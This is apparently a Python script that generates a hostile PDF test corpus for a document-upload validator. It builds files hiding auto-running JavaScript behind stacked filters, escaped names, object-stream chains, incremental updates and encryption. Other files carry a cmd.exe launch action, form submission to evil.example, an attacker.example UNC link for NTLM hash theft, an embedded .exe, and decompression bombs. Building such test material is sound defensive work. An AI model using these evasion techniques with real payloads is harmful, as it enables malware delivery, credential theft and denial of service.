"""Writes the PDFs of the hostile corpus added for issue 12 into files/ (they are committed; run
this only to rebuild them): `.venv/bin/python -m tests.hostile.make_pdfs`.

Most are written byte by byte here, so that each shows exactly the trick it is named after (a
stacked filter, a #-escaped name, an /Extends chain, an appended update); the encrypted ones are
written with pikepdf (qpdf), the scan with Pillow. Every hostile one has a page with a line of
text, so that a viewer opens it as a document."""

import io
import random
import zlib
from pathlib import Path

FILES = Path(__file__).parent / "files"

PAGE_TEXT = b"BT /F1 18 Tf 72 760 Td (Formulir pendaftaran) Tj ET"
ALERT = b"app.alert\\('PDF JavaScript ran'\\)"


class Writer:
    """A PDF from numbered objects: a classic cross-reference table, or a cross-reference
    stream when some objects are packed in object streams."""

    def __init__(self, version=b"1.7"):
        self.version = version
        self.objects = {}  # number -> bytes of the object's body
        self.packed = {}  # number -> (object stream number, index)

    def add(self, number, body):
        self.objects[number] = body

    def add_stream(self, number, entries, data):
        self.add(number, b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data))

    def add_object_stream(self, number, members, filters=b"", encode=bytes, extends=None):
        """Pack `members` ({number: body}) into object stream `number`, encoded by `encode`
        and declared with `filters` (e.g. b"[/FlateDecode /FlateDecode]")."""
        offsets, body = [], b""
        for index, (member, text) in enumerate(members.items()):
            offsets.append(b"%d %d" % (member, len(body)))
            body += text + b"\n"
            self.packed[member] = (number, index)
        header = b" ".join(offsets) + b"\n"
        entries = b"/Type /ObjStm /N %d /First %d" % (len(members), len(header))
        if filters:
            entries += b" /Filter " + filters
        if extends:
            entries += b" /Extends %d 0 R" % extends
        self.add_stream(number, entries, encode(header + body))

    def page_document(self, catalog=b"", page=b"", extra_objects=None):
        """Objects 1-5: catalog, pages, one page with text, its content and font."""
        self.add(1, b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog)
        self.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        self.add(
            3,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % page,
        )
        self.add_stream(4, b"", PAGE_TEXT)
        self.add(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
        for number, body in (extra_objects or {}).items():
            self.add(number, body)
        return self

    def build(self, trailer=b""):
        out = io.BytesIO()
        out.write(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % self.version)
        offsets = {}
        for number in sorted(self.objects):
            if number in self.packed:
                continue
            offsets[number] = out.tell()
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, self.objects[number]))
        size = max(self.objects) + 1
        if not self.packed:
            start = out.tell()
            out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
            for number in range(1, size):
                if number in offsets:
                    out.write(b"%010d 00000 n \n" % offsets[number])
                else:
                    out.write(b"0000000000 65535 f \n")
            out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (size, trailer))
        else:
            start = out.tell()
            rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
            for number in range(1, size + 1):
                if number == size:
                    rows.append(b"\x01" + start.to_bytes(4, "big") + b"\x00\x00")
                elif number in self.packed:
                    stream, index = self.packed[number]
                    rows.append(b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big"))
                elif number in offsets:
                    rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
                else:
                    rows.append(b"\x00\x00\x00\x00\x00\xff\xff")
            data = flate(b"".join(rows))
            out.write(
                b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s/Filter /FlateDecode "
                b"/Length %d >>\n"
                b"stream\n%s\nendstream\nendobj\n" % (size, size + 1, trailer, len(data), data)
            )
        out.write(b"startxref\n%d\n%%%%EOF\n" % start)
        return out.getvalue()


def flate(data):
    return zlib.compress(data, 9)


def ascii_hex(data):
    return data.hex().encode() + b">"


def ascii85(data):
    import base64

    return base64.a85encode(data) + b"~>"


def run_length(data):
    """RunLength (PDF 7.4.5): literal runs of up to 128 bytes, then the end marker 128."""
    out = bytearray()
    for start in range(0, len(data), 128):
        chunk = data[start : start + 128]
        out.append(len(chunk) - 1)
        out += chunk
    out.append(128)
    return bytes(out)


def lzw_of_spaces(cycles):
    """LZW data (EarlyChange 1) that decodes to about 7.4 MB of spaces a cycle: each cycle fills
    the code table with ever longer runs of spaces, then clears it. Clear codes pad each cycle to
    whole bytes, so the cycles are identical bytes, which Flate then compresses a thousandfold."""
    out, bits, count = bytearray(), 0, 0

    def emit(code, width):
        nonlocal bits, count
        bits, count = (bits << width) | code, count + width
        while count >= 8:
            count -= 8
            out.append((bits >> count) & 0xFF)
        bits &= (1 << count) - 1

    emit(256, 9)
    for _ in range(cycles):
        next_code, width, code = 258, 9, 32
        while next_code < 4095:
            emit(code, width)
            next_code += 1
            if next_code + 1 > 1 << width and width < 12:
                width += 1
            code = 258 if code == 32 else code + 1
        emit(256, width)
        while count:
            emit(256, 9)
    emit(257, 9)
    if count:
        out.append((bits << (8 - count)) & 0xFF)
    return bytes(out)


def javascript_action(extra=b""):
    return b"<< /Type /Action /S /JavaScript /JS (" + ALERT + b") " + extra + b">>"


# ---------------------------------------------------------------------------------------------
# The files
# ---------------------------------------------------------------------------------------------


def stacked_flate():
    """The script packed in an object stream compressed twice: [/FlateDecode /FlateDecode]."""
    writer = Writer().page_document(catalog=b"/OpenAction 6 0 R")
    writer.add_object_stream(
        7,
        {6: javascript_action()},
        b"[/FlateDecode /FlateDecode]",
        lambda data: flate(flate(data)),
    )
    return writer.build()


def hex_escaped_names():
    """/Open#41ction, /J#61vaScript and /#4A#53 spell /OpenAction, /JavaScript and /JS."""
    writer = Writer().page_document(catalog=b"/Open#41ction 6 0 R")
    writer.add(6, b"<< /Type /Action /S /J#61vaScript /#4A#53 (" + ALERT + b") >>")
    return writer.build()


def objstm_extends():
    """Two object streams: the second (/Extends the first) holds the action that the first's
    catalog names; the script itself is a third stream, ASCIIHex over Flate."""
    writer = Writer()
    writer.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    writer.add(
        3,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
    )
    writer.add_stream(4, b"", PAGE_TEXT)
    writer.add(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    writer.add_stream(
        9, b"/Filter [/ASCIIHexDecode /FlateDecode]", ascii_hex(flate(ALERT.replace(b"\\", b"")))
    )
    writer.add_object_stream(
        7, {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"}, b"/FlateDecode", flate
    )
    writer.add_object_stream(
        8, {6: b"<< /S /JavaScript /JS 9 0 R >>"}, b"/FlateDecode", flate, extends=7
    )
    return writer.build()


def incremental_update(benign):
    """benign.pdf with an update appended: a new catalog with an /OpenAction script."""
    trailer_at = benign.rindex(b"trailer")
    size = int(benign[trailer_at:].split(b"/Size")[1].split()[0])
    previous = int(benign.rsplit(b"startxref", 1)[1].split()[0])
    root = benign[trailer_at:].split(b"/Root")[1].split(b"R")[0].strip()
    root_number = int(root.split()[0])
    catalog_at = benign.index(b"\n%d 0 obj" % root_number) + 1
    catalog = benign[catalog_at : benign.index(b"endobj", catalog_at)]
    body = catalog.split(b"obj", 1)[1].strip()
    assert body.endswith(b">>")
    out = io.BytesIO()
    out.write(benign if benign.endswith(b"\n") else benign + b"\n")
    catalog_offset = out.tell()
    out.write(b"%d 0 obj\n%s /OpenAction %d 0 R >>\nendobj\n" % (root_number, body[:-2], size))
    action_offset = out.tell()
    out.write(b"%d 0 obj\n%s\nendobj\n" % (size, javascript_action()))
    start = out.tell()
    out.write(
        b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n"
        % (root_number, catalog_offset, size, action_offset)
    )
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size + 1, root_number, previous, start)
    )
    return out.getvalue()


def _with_pikepdf(data, **save):
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def encrypted_with_script():
    """AES-256 with an owner password and an empty user password: it opens without asking, and
    its /OpenAction script sits in an encrypted object stream."""
    import pikepdf

    writer = Writer().page_document(catalog=b"/OpenAction 6 0 R")
    writer.add(6, javascript_action())
    return _with_pikepdf(
        writer.build(),
        encryption=pikepdf.Encryption(owner="pemilik-dokumen", user="", R=6),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def encrypted_benign():
    """The same encryption (owner password only), no script: stored like any other PDF."""
    import pikepdf

    return _with_pikepdf(
        Writer().page_document().build(),
        encryption=pikepdf.Encryption(
            owner="pemilik-dokumen", user="", R=4, aes=False, metadata=False
        ),
    )


def password_required():
    """Needs a password to open (RC4, user password "rahasia")."""
    import pikepdf

    return _with_pikepdf(
        Writer().page_document().build(),
        encryption=pikepdf.Encryption(
            owner="pemilik-dokumen", user="rahasia", R=4, aes=False, metadata=False
        ),
    )


def page_additional_action():
    """A page whose /AA runs a script when the page opens (/O)."""
    writer = Writer().page_document(page=b"/AA << /O 6 0 R >>")
    writer.add(6, javascript_action())
    return writer.build()


def launch_annotation():
    """A link annotation over the text whose action launches a program."""
    writer = Writer().page_document(page=b"/Annots [6 0 R]")
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /Link /Rect [72 750 400 780] /Border [0 0 0] "
        b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (calc.exe) >> >>",
    )
    return writer.build()


def xfa_form():
    """An XFA form (an XML template with a script) in the AcroForm dictionary."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template '
        b'xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"xfa.host.messageBox('XFA script ran');</script></event></subform></template>"
        b"</xdp:xdp>"
    )
    writer = Writer().page_document(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ")
    writer.add_stream(6, b"", xfa)
    return writer.build()


def submit_form():
    """A push button that sends the form's fields to another site."""
    writer = Writer().page_document(
        catalog=b"/AcroForm << /Fields [6 0 R] >> ", page=b"/Annots [6 0 R]"
    )
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (kirim) /Rect [72 700 200 730] "
        b"/P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> "
        b"/Flags 4 >> >>",
    )
    return writer.build()


def reset_form():
    """A form with a text field and a button that clears it (ResetForm): accepted."""
    writer = Writer().page_document(
        catalog=b"/AcroForm << /Fields [6 0 R 7 0 R] >> ", page=b"/Annots [6 0 R 7 0 R]"
    )
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /V (Alice) /Rect [72 700 300 720] "
        b"/P 3 0 R >>",
    )
    writer.add(
        7,
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (hapus) /Rect [72 660 200 690] "
        b"/P 3 0 R /A << /S /ResetForm >> >>",
    )
    return writer.build()


def file_attachment():
    """A file attachment annotation carrying an embedded .exe."""
    writer = Writer().page_document(page=b"/Annots [6 0 R]")
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 92 720] /Name /Paperclip "
        b"/FS << /Type /Filespec /F (lampiran.exe) /EF << /F 7 0 R >> >> >>",
    )
    writer.add_stream(
        7, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", b"MZ\x90\x00" + bytes(60)
    )
    return writer.build()


def encoded_objstm(filters, encode):
    """The /OpenAction script in an object stream with the given filters."""
    writer = Writer().page_document(catalog=b"/OpenAction 6 0 R")
    writer.add_object_stream(7, {6: javascript_action()}, filters, encode)
    return writer.build()


def gotor_unc():
    """An /OpenAction that opens a PDF on a Windows share: Windows readers send the user's
    NTLM hash to that server."""
    writer = Writer().page_document(catalog=b"/OpenAction 6 0 R")
    writer.add(
        6,
        b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] "
        b"/NewWindow true >>",
    )
    return writer.build()


def javascript_link():
    """A link whose URI is javascript: (a web link's shape, a script's content)."""
    writer = Writer().page_document(page=b"/Annots [6 0 R]")
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
        b"/A << /S /URI /URI (javascript:alert\\(document.domain\\)) >> >>",
    )
    return writer.build()


def web_links():
    """Plain https and mailto links, as exported documents have them: accepted."""
    writer = Writer().page_document(page=b"/Annots [6 0 R 7 0 R]")
    writer.add(
        6,
        b"<< /Type /Annot /Subtype /Link /Rect [72 750 400 780] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://lsp.example/skema/mhp) >> >>",
    )
    writer.add(
        7,
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 400 730] /Border [0 0 0] "
        b"/A << /S /URI /URI (mailto:admin@lsp.example) >> >>",
    )
    return writer.build()


def flate_bomb():
    """A page content stream compressed twice that decodes to 1 GiB of spaces (3 KB file)."""
    inner = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(inner.compress(block) for _ in range(1024)) + inner.flush()
    writer = Writer().page_document()
    writer.add_stream(4, b"/Filter [/FlateDecode /FlateDecode]", flate(data))
    return writer.build()


def lzw_bomb():
    """A page content stream, LZW under Flate, that decodes to about 2.2 GB of spaces."""
    writer = Writer().page_document()
    writer.add_stream(4, b"/Filter [/FlateDecode /LZWDecode]", flate(lzw_of_spaces(300)))
    return writer.build()


def many_objects():
    """60,000 objects (each `null`), 10,000 an object stream: more than any document has. 250 KB,
    so built at test time (tests/hostile/corpus.py), not committed."""
    writer = Writer().page_document()
    number = 10
    for stream in range(6):
        header = b" ".join(b"%d %d" % (number + i, 5 * i) for i in range(10_000)) + b"\n"
        for index in range(10_000):
            writer.packed[number + index] = (70_000 + stream, index)
            writer.objects[number + index] = b"null"
        number += 10_000
        entries = b"/Type /ObjStm /N 10000 /First %d /Filter /FlateDecode" % len(header)
        writer.add_stream(70_000 + stream, entries, flate(header + b"null\n" * 10_000))
    return writer.build()


def damaged():
    """A PDF header, 4 KB of noise and %%EOF: no object, no cross-reference table."""
    noise = random.Random(12).randbytes(4096)  # noqa: S311 - fixed noise, not a secret
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + noise + b"\n%%EOF\n"


def scanned():
    """A scanned page: one greyscale JPEG, as a scanner app writes it (Pillow)."""
    from PIL import Image, ImageDraw

    image = Image.new("L", (620, 877), 235)
    draw = ImageDraw.Draw(image)
    for line in range(40):
        draw.text((40, 40 + line * 20), f"Baris {line + 1}: surat keterangan magang", fill=30)
    out = io.BytesIO()
    image.save(out, format="PDF", resolution=75.0, quality=60)
    return out.getvalue()


def main():
    benign = (FILES / "benign.pdf").read_bytes()
    files = {
        "pdf-js-objstm-flate-flate.pdf": stacked_flate(),
        "pdf-js-hex-escaped-names.pdf": hex_escaped_names(),
        "pdf-js-objstm-extends.pdf": objstm_extends(),
        "pdf-js-incremental-update.pdf": incremental_update(benign),
        "pdf-js-encrypted-aes256.pdf": encrypted_with_script(),
        "pdf-aa-page-open.pdf": page_additional_action(),
        "pdf-launch-annotation.pdf": launch_annotation(),
        "pdf-xfa-form.pdf": xfa_form(),
        "pdf-submitform-button.pdf": submit_form(),
        "pdf-file-attachment.pdf": file_attachment(),
        "pdf-js-objstm-asciihex.pdf": encoded_objstm(b"/ASCIIHexDecode", ascii_hex),
        "pdf-js-objstm-ascii85.pdf": encoded_objstm(
            b"[/ASCII85Decode /FlateDecode]", lambda data: ascii85(flate(data))
        ),
        "pdf-js-objstm-runlength.pdf": encoded_objstm(b"/RunLengthDecode", run_length),
        "pdf-gotor-unc.pdf": gotor_unc(),
        "pdf-uri-javascript.pdf": javascript_link(),
        "pdf-password-required.pdf": password_required(),
        "pdf-damaged-no-objects.pdf": damaged(),
        "pdf-bomb-flate-flate.pdf": flate_bomb(),
        "pdf-bomb-lzw.pdf": lzw_bomb(),
        "pdf-owner-password-only.pdf": encrypted_benign(),
        "pdf-web-links.pdf": web_links(),
        "pdf-reset-form.pdf": reset_form(),
        "pdf-scanned-page.pdf": scanned(),
    }
    for name, data in files.items():
        (FILES / name).write_bytes(data)
        print(f"{len(data):>8} {name}")


if __name__ == "__main__":
    main()
